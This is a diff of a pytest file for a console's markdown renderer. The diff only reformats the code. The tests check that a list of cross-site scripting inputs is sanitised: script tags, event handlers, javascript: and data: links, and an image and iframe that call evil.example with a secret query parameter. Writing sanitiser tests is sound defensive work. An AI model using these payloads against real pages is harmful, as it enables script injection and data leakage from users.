@@ -9,19 +9,22 @@ import pytest
 from appliance.console.render import code_html, markdown_html
 
 
-@pytest.mark.parametrize("text", [
-    "<script>alert(1)</script>",
-    "Hello <img src=x onerror=alert(1)> world",
-    '<a href="javascript:alert(1)">x</a>',
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "![tracker](http://evil.example/pixel.png?secret=1)",
-    "<iframe src=//evil.example></iframe>",
-    "```html\n<script>alert(1)</script>\n```",
-    "```</code><script>alert(1)</script>\nx\n```",
-    "<svg onload=alert(1)>",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        "Hello <img src=x onerror=alert(1)> world",
+        '<a href="javascript:alert(1)">x</a>',
+        "[click](javascript:alert(1))",
+        "[click](JaVaScRiPt:alert(1))",
+        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "![tracker](http://evil.example/pixel.png?secret=1)",
+        "<iframe src=//evil.example></iframe>",
+        "```html\n<script>alert(1)</script>\n```",
+        "```</code><script>alert(1)</script>\nx\n```",
+        "<svg onload=alert(1)>",
+    ],
+)
 def test_nothing_executable_or_fetching_survives(text: str) -> None:
     elements = Elements()
     elements.feed(markdown_html(text))
@@ -33,8 +36,34 @@ def test_nothing_executable_or_fetching_survives(text: str) -> None:
                 assert (value or "").startswith(("http://", "https://", "mailto:", "#", "/")), (value, text)
 
 
-SAFE_TAGS = {"p", "a", "strong", "em", "code", "pre", "span", "ul", "ol", "li", "blockquote", "br", "hr", "h1",
-             "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "s"}
+SAFE_TAGS = {
+    "p",
+    "a",
+    "strong",
+    "em",
+    "code",
+    "pre",
+    "span",
+    "ul",
+    "ol",
+    "li",
+    "blockquote",
+    "br",
+    "hr",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "s",
+}
 
 
 class Elements(HTMLParser):
@@ -49,7 +78,9 @@ class Elements(HTMLParser):
 
 
 def test_markdown_renders_with_highlighted_code() -> None:
-    html = markdown_html("Use **this**:\n\n```python\ndef f(x):\n    return x < 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |")
+    html = markdown_html(
+        "Use **this**:\n\n```python\ndef f(x):\n    return x < 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
+    )
     assert "<strong>this</strong>" in html
     assert '<code class="language-python">' in html and '<span class="hl-k">def</span>' in html
     assert "&lt;" in html  # the comparison is escaped inside the highlighted code
